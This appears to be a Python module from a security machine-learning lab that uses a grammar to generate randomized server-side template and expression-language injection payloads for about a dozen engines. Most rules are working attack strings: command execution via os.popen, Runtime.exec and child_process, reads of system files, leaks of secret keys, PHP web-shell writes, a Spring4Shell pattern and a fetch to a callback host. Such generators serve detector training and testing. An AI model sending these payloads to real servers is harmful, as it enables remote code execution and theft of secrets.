"""Server-side template and expression-language injection (CWE-1336, CWE-917) for a dozen engines."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_RULES: Final = rules(
    r"""
start
    «before»«probe»
    «before»«probe»
    «before»«jinja»
    «before»«jinja»
    «before»«jinja»
    «before»«twig»
    «before»«freemarker»
    «before»«velocity»
    «before»«spring»
    «before»«spring»
    «before»«ognl»
    «before»«erb»
    «before»«javascript»
    «before»«smarty»
    «before»«rest»
before:
    «empty» «empty» «empty» «word» «label» «n» "}} '}} %}
a:
    «int:2-99» «int:100-9999» «int:2-9»
sum
    «a»*«a»
    «a»*«a»
    «a»*'«a»'
    «a»+«a»
    «a»-«a»
    '«lower:3»'*«int:2-9»
    '«lower:2»'.concat('«lower:3»')
    "«lower:3»".toUpperCase()
    «a»/«a»
probe
    {{«sum»}}
    {{«sum»}}
    {{ «sum» }}
    ${«sum»}
    ${«sum»}
    ${{«sum»}}
    #{«sum»}
    <%=«space»«sum»«space»%>
    *{«sum»}
    @(«sum»)
    {«sum»}
    {{=«sum»}}
    {%«space»if«space»«sum»«space»%}«lower:4»{%«space»endif«space»%}
    [[${«sum»}]]
    [(«sum»)]
    $(«sum»)
    {{@«sum»}}
    #set($§=«sum»)$§
    ~[«sum»]
    ${«lower:1»}${«sum»}<%=«sum»%>{{«sum»}}
    {{«sum»}}[[«sum»]]
    %{«sum»}
    {#«lower:3»#}{{«sum»}}
    ${T(java.lang.Integer).parseInt("«a»")*«a»}
    {php}echo «sum»;{/php}
jinja
    {{config}}
    {{config.items()}}
    {{ config['«upper:6»'] }}
    {{self}}
    {{request}}
    {{request.application.__globals__.__builtins__.__import__('os').popen('«plain_command»').read()}}
    {{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
    {{ «object».__class__.__mro__[«int:1-2»].__subclasses__() }}
    {{ «object».__class__.__mro__[«int:1-2»].__subclasses__()[«int:30-500»]('«unix_file»').read() }}
    {{«object».__class__.__base__.__subclasses__()[«int:30-500»]}}
    {{«object».__class__.__bases__[0].__subclasses__()[«int:30-500»].__init__.__globals__['sys']}}
    {{«holder».__init__.__globals__.os.popen('«unix_command»').read()}}
    {{«holder».__globals__['os'].popen("«plain_command»").read()}}
    {{«holder»|attr("__globals__")|attr("__getitem__")("os")}}
    {%«space»for«space»§«space»in«space»«object».__class__.__base__.__subclasses__()«space»%}{{§}}{%«space»endfor«»
    «space»%}
    {%«space»set«space»§=«holder».__globals__.os.popen('«plain_command»')«space»%}{{§.read()}}
    {%«space»import«space»os«space»%}{{os.system('«plain_command»')}}
    {{''|attr(['_'*2,'class','_'*2]|join)}}
    {{«object»["__cla"+"ss__"]}}
    {%print(«holder».__globals__)%}
    {{url_for.__globals__['current_app'].config}}
    {{get_flashed_messages.__globals__.__builtins__.open("«unix_file»").read()}}
    {%«space»with«space»a=request["application"]["\x5f\x5fglobals\x5f\x5f"]«space»%}{{a}}{%«space»endwith«space»%}
    {%«space»debug«space»%}
    {%«space»include«space»'«unix_file»'«space»%}
    {%«space»load«space»log«space»%}{%«space»get_admin_log«space»«int:1-99»«space»as«space»«lower:3»«space»%}
    {{settings.SECRET_KEY}}
    {{ messages.storages.0.signer.key }}
object:
    '' "" [] () {} request config session «n»
holder:
    lipsum cycler joiner namespace url_for get_flashed_messages self._TemplateReference__context.cycler
twig
    {{_self.env.registerUndefinedFilterCallback("«php_call»")}}{{_self.env.getFilter("«plain_command»")}}
    {{['«plain_command»']|filter('«php_call»')}}
    {{['«plain_command»',«n»]|sort('«php_call»')|join}}
    {{['«plain_command»']|map('«php_call»')|join}}
    {{app.request.server.all|join(',')}}
    {{'«unix_file»'|file_excerpt(«int:1-30»,«int:1-30»)}}
    {{_self}}
    {{dump(app)}}
    {{{"<?php «php_call»('«plain_command»');":"/var/www/«lower:4».php"}|map("file_put_contents")}}
    {{[0]|reduce('«php_call»','«plain_command»')}}
php_call:
    system exec passthru shell_exec
freemarker
    <#assign §="freemarker.template.utility.Execute"?new()>${§("«plain_command»")}
    ${"freemarker.template.utility.Execute"?new()("«unix_command»")}
    [#assign §='freemarker.template.utility.Execute'?new()]${§('«plain_command»')}
    ${«label».getClass().getProtectionDomain().getCodeSource().getLocation()}
    <#list .data_model?keys as §>${§}</#list>
    ${«label».class.protectionDomain.classLoader}
    <#include "«unix_file»">
    ${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","«plain_command»").start()}
    ${.version}
velocity
    #set($§='')#set($rt=$§.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('«plain_command»')
    #set($e="«label»")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null)
    $class.inspect("java.lang.Runtime").type.getRuntime().exec("«plain_command»").waitFor()
    #foreach($i in [1..«int:2-99»])$i#end
    #include("«unix_file»")
    $«label».getClass().getClassLoader()
    #evaluate("#set($«lower:1»=«sum»)")
spring
    ${T(java.lang.Runtime).getRuntime().exec('«plain_command»')}
    __${T(java.lang.Runtime).getRuntime().exec("«unix_command»")}__::.«lower:1»
    *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('«plain_command»').getInput«»
    Stream())}
    #{T(java.lang.System).getenv()}
    ${T(java.lang.System).getProperty('«label».«label»')}
    ${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("«plain_command»").getInputStream()).next()}
    ${pageContext.request.getSession().setAttribute("«lower:4»",«a»)}
    ${«label».getClass().forName("java.lang.Runtime").getMethods()[«int:1-20»]}
    ${applicationScope}
    ${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('«sum»')}
    #{session.setAttribute("«lower:3»","".getClass().forName("java.lang.ProcessBuilder"))}
    __*{new java.util.Scanner("«label»").next()}__::
    class.module.classLoader.resources.context.parent.pipeline.first.«spring4shell»
    ${"".class.forName("java.lang.Runtime").getRuntime().exec("«plain_command»")}
spring4shell:
    pattern=%25%7B«lower:3»%7Di suffix=.jsp directory=webapps/ROOT prefix=«lower:6» fileDateFormat=
ognl
    %{(#_='multipart/form-data').(#«lower:2»=@java.lang.Runtime@getRuntime().exec('«plain_command»'))}
    %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('«lower:5»',«sum»)}
    ${(#§=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#§):(«sum»))}
    %{(#nike='multipart/form-data').(#cmd='«unix_command»').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}
    redirect:${#«lower:3»=new java.lang.ProcessBuilder(new java.lang.String[]{'«plain_command»'}).start()}
    action:%{«sum»}
    %{@java.lang.System@getProperty('«label».«label»')}
    ${@java.lang.Runtime@getRuntime().exec("«plain_command»")}
    (#_memberAccess['allowStaticMethodAccess']=true,#«lower:1»=@java.lang.Runtime@getRuntime().exec('«plain_command»'))
erb
    <%=«space»system("«plain_command»")«space»%>
    <%=«space»`«unix_command»`«space»%>
    <%=«space»File.open('«unix_file»').read«space»%>
    <%=«space»Dir.entries('/«label»')«space»%>
    <%=«space»IO.popen('«plain_command»').readlines()«space»%>
    #{`«plain_command»`}
    #{File.read("«unix_file»")}
    <%«space»require«space»'open3';«space»Open3.capture2('«plain_command»')«space»%>
    <%=«space»ENV.to_h«space»%>
javascript
    {{constructor.constructor('«js»')()}}
    {{$on.constructor('«js»')()}}
    {{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };«js»//');}}
    #{root.process.mainModule.require('child_process').spawnSync('«plain_command»').stdout}
    #{function(){localLoad=global.process.mainModule.constructor._load;localLoad('child_process').exec('«»
    «plain_command»')}()}
    ${global.process.mainModule.require('child_process').execSync('«plain_command»')}
    {{range.constructor("return global.process.mainModule.require('child_process').execSync('«plain_command»')")()}}
    {{#with "s" as |string|}}{{#with "e"}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/with}}{{/with}}
    {{#with (lookup this "constructor")}}{{this}}{{/with}}
    <%=«space»global.process.mainModule.require('child_process').execSync('«plain_command»')«space»%>
    {{['«js»']|orderBy:toString.constructor.fromCharCode(«int:90-120»)}}
    ${process.env.«upper:5»}
    {{this.constructor.constructor('return process')().env}}
js:
    alert(«int:1-99») return(process) «lower:3»=«int:1-99» fetch('//«callback»') return(this)
smarty
    {system('«plain_command»')}
    {php}system('«plain_command»');{/php}
    {$smarty.version}
    {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['«lower:2»']); ?>",self::clearConfig())}
    {fetch file='«unix_file»'}
    {$smarty.template_object->smarty->disableSecurity()->display('string:{system("«plain_command»")}')}
    {if «php_call»('«plain_command»')}{/if}
    {literal}{$«lower:3»|«php_call»}{/literal}
rest
    ${self.module.cache.util.os.system("«plain_command»")}
    <%«space»import os;§=os.popen('«plain_command»').read()«space»%>${§}
    {%«space»raw«space»open("«unix_file»").read()«space»%}
    {{.System "«plain_command»"}}
    {{printf "%s" .«label»}}{{«sum»}}
    {{template "«label»" .}}{{html .«label».«label»}}
    @{System.IO.File.ReadAllText("C:\«windows_file»")}
    @System.Diagnostics.Process.Start("cmd.exe","/c «windows_plain»")
    @(1+«a»)@{var «lower:1»=«a»;}
    {{%«space»«sum»«space»%}}
    = `«plain_command»`
    - «lower:1» = `«plain_command»`
    {@math key=«a» method=multiply operand=«a»/}
    <th:block th:text="${«sum»}"></th:block>
    ${Class.forName("java.lang.Runtime")}
    {{ "«label»".getClass().forName("java.lang.Runtime") }}
    {%«space»set «lower:3» = "«unix_command»"|shell_exec«space»%}
    <%=«space»Process.Start("cmd","/c «windows_plain»")«space»%>
    {{=«holder».constructor("«js»")()}}
"""
)
_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES})


def payload(rng: Random) -> str:
    """One template or expression-language injection payload."""
    text = _GRAMMAR.generate(rng).replace("§", rng.choice("abcexyz") + rng.choice(["", "", "x", "mp", "1"]))
    if rng.random() < 0.08:
        text = text.replace("__", rng.choice(["\\x5f\\x5f", "_%5f", "\\u005f\\u005f"]))
    return text
